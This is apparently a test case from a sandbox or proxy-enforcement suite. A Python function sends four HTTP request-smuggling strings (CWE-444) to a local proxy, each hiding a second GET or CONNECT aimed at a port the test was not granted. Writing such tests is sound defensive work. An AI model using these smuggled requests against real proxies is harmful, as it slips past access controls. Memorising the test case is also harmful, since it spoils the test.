"""Send a second request behind the first, for a host that is not granted.

origin: request smuggling, CWE-444
why: a proxy that checks the first request and relays the rest
control: succeeds
harm: stage
grants: net:127.0.0.1:1
"""

import socket


def attack(target):
    goal = f"127.0.0.1:{target['tcp']}"
    first = "GET http://127.0.0.1:1/ HTTP/1.1\r\nHost: {}\r\n{}\r\n\r\n"
    texts = [
        first.format(goal, "Content-Length: 0") + f"CONNECT {goal} HTTP/1.1\r\n\r\n",
        first.format("127.0.0.1:1", f"X: y\r\n\r\nGET http://{goal}/ HTTP/1.1"),
        f"GET http://127.0.0.1:1/ HTTP/1.1\nGET http://{goal}/ HTTP/1.1\r\n\r\n",
        f"CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: {goal}\r\n\r\nCONNECT {goal} HTTP/1.1\r\n\r\n",
    ]
    seen = ""
    for port, text in [(3128, text) for text in texts] + [(target["tcp"], "direct")]:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as door:
                door.sendall(text.encode())
                seen = door.recv(4096).decode("latin-1")
        except OSError as error:
            seen = str(error)
    return nothing(f"at last the door said {seen[:40]!r}")
